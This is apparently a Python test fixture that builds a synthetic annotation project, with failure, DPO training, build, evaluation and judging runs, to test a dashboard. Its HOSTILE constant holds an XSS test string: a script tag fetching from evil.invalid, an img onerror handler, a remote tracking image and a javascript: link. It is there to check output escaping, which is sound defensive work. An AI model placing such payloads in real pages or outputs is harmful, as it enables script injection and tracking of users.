"""A project after two rounds, with finished runs of every step, for tests of the dashboard."""

from __future__ import annotations

import json
import random
from pathlib import Path
from typing import Any

import numpy as np
from factories import make_project
from loop_runs import generated, judged

from annotate.records import content_id, output_rows, table_from_rows, text_message
from annotate.runs import Project, Run, RunPlan
from annotate.statistics import win_rate

HOSTILE = (
    "<script>window.pwned = 1; fetch('http://evil.invalid/script')</script>"
    "<img src='http://evil.invalid/tag.png' onerror='window.pwned = 2'>\n"
    "![pixel](http://evil.invalid/markdown.png) [link](javascript:window.pwned=3)\n"
    ":red[coloured] $\\frac{1}{2}$ <b>bold</b>"
)

_QUESTIONS = (
    "My {thing} arrived with a crack in the {part}. What can I do?",
    "How do I change the address of my order? I bought a {thing} this morning.",
    "The {part} of my {thing} makes a clicking noise since yesterday.",
    "Can I return a {thing} without its box?",
)
_GOOD = (
    "I am sorry to hear that. Please send us a photo of the {part} within 14 days and we will "
    "replace your {thing} at no cost. Your order number is in the confirmation e-mail."
)
_BAD = "Have you tried turning the {thing} off? Our {thing}s are the best {thing}s there are."
_THINGS = ("kettle", "desk lamp", "bicycle pump", "coffee grinder", "radio")
_PARTS = ("lid", "handle", "base", "cable", "switch")


def make_failures(project: Project, n: int = 24, *, round: int = 2, hostile: bool = True) -> Run:
    """A finished failures run of `n` rows; the last of them holds hostile completions."""
    rng = random.Random(round)
    prompts, outputs, failures = [], [], []
    for number in range(n):
        text, texts = _invented(rng, 4100 + number)
        prompt_id = content_id("p", round, text)
        if hostile and number == n - 1:
            texts = (HOSTILE, f"Another one.\n{HOSTILE}")
        pair = output_rows(prompt_id, [(f"m{round - 1}", texts[0]), ("m0", texts[1])])
        prompts.append(
            {
                "prompt_id": prompt_id,
                "messages": [text_message("user", text)],
                "source": "held-out",
                "split": "eval",
                "metadata": "{}",
            }
        )
        outputs += pair
        failures.append(_failure(pair, text, number, rng))
    with project.draft(RunPlan("failures", round, settings={"n": n, "hostile": hostile})) as draft:
        draft.write("prompts", table_from_rows("prompts", prompts))
        draft.write("outputs", table_from_rows("outputs", outputs))
        draft.write("failures", table_from_rows("failures", failures))
        draft.note(failures=n)
    return draft.run


def _invented(rng: random.Random, order: int) -> tuple[str, tuple[str, str]]:
    """A customer's question, and a bad and a good answer to it."""
    words = {"thing": rng.choice(_THINGS), "part": rng.choice(_PARTS)}
    text = f"{rng.choice(_QUESTIONS).format(**words)} (Order {order})"
    return text, (_BAD.format(**words), _GOOD.format(**words))


def _failure(
    pair: list[dict[str, Any]], text: str, number: int, rng: random.Random
) -> dict[str, Any]:
    new, old = pair
    why = ("lost", "lost", "tied", "thin evidence")[number % 4]
    unjudged = why == "thin evidence"
    by_people = number % 3 == 1 and not unjudged
    by_scorer = not by_people and not unjudged
    return {
        "failure_id": content_id("f", new["output_id"]),
        "prompt_id": new["prompt_id"],
        "output_id": new["output_id"],
        "model": new["model"],
        "versus_output": old["output_id"],
        "versus_model": old["model"],
        "why": why,
        "outcome": {"lost": 0.0, "tied": 0.5}.get(why),
        "judged_by": "people" if by_people else "scorer:support-rubric" if by_scorer else None,
        "votes": 3 if by_people else None,
        "score": round(rng.uniform(0.1, 0.4), 3) if by_scorer else None,
        "versus_score": round(rng.uniform(0.5, 0.9), 3) if by_scorer else None,
        "prompt_text": text,
        "completion": new["completion"],
        "versus_completion": old["completion"],
    }


def make_training(project: Project, *, round: int = 1, steps: int = 40) -> Run:
    """A finished DPO run with its log."""
    rng = random.Random(round)
    lines = []
    for step in range(1, steps + 1):
        done = step / steps
        line: dict[str, Any] = {"step": step * 5, "epoch": round_to(done * 3)}
        line |= {
            "loss": round_to(0.69 - 0.45 * done + rng.gauss(0, 0.03)),
            "rewards/margins": round_to(1.8 * done + rng.gauss(0, 0.1)),
            "rewards/accuracies": round_to(min(1.0, 0.5 + 0.45 * done + rng.gauss(0, 0.04))),
            "learning_rate": 5e-4 * (1 - done),
        }
        lines.append(line)
    with project.draft(RunPlan("train", round, settings={"recipe": "dpo"}, seed=0)) as draft:
        draft.write_text("log.jsonl", "".join(json.dumps(line) + "\n" for line in lines))
        draft.note(method="dpo")
    return draft.run


def make_build(project: Project, judge_run: Run, kept: int) -> Run:
    """A finished build run, as far as the manifest goes."""
    dropped = {"votes": 4, "agreement": 36 - kept}
    plan = RunPlan("build", judge_run.round, (judge_run,))
    with project.draft(plan) as draft:
        draft.note(pairs=40, kept=kept, dropped=dropped, quarantined=0)
    return draft.run


def make_evaluation(project: Project, train_run: Run, *rates: float) -> Run:
    """A finished evaluate run: win rates against the previous and the round 0 model."""
    roles = [["previous"], ["round 0"]] if len(rates) == 2 else [["previous", "round 0"]]
    comparisons = [
        {
            "versus": f"m-{whose[0]}",
            "roles": whose,
            "win_rate": proportion_of(rate),
            "judged_by": {"scorer:support-rubric": 180, "people": 20},
        }
        for whose, rate in zip(roles, rates, strict=True)
    ]
    with project.draft(RunPlan("evaluate", train_run.round, (train_run,))) as draft:
        draft.note(model=train_run.id, comparisons=comparisons)
    return draft.run


def proportion_of(rate: float, n: int = 200) -> dict[str, Any]:
    """An estimate as the evaluate step records it."""
    rng = np.random.default_rng(0)
    outcomes = rng.permutation(np.arange(n) < rate * n).astype(float)
    return win_rate(outcomes, [f"p{number}" for number in range(n)]).to_dict()


def round_to(value: float) -> float:
    """Four decimals, as a log has."""
    return float(f"{value:.4f}")


def make_judged(project: Project, *, round: int = 1, n: int = 40) -> Run:
    """A finished judge run on the votes of three people, the third of whom guesses."""
    rng = random.Random(round)
    invented = [_invented(rng, 1000 * round + number) for number in range(n)]
    texts = {text: (good, bad) for text, (bad, good) in invented}
    votes = {
        text: [rng.choice((3, 2, 1, 1)), rng.choice((3, 2, 1, -1)), rng.randint(-3, 3)]
        for text in texts
    }
    return judged(project, generated(project, texts, round=round), votes, method="dawid-skene")


def make_dashboard_project(folder: Path) -> Project:
    """A project with runs for every page."""
    project = make_project(folder)
    for round, rates in ((1, (0.71,)), (2, (0.58, 0.78))):
        make_build(project, make_judged(project, round=round), kept=round + 24)
        make_evaluation(project, make_training(project, round=round), *rates)
    make_failures(project)
    return project
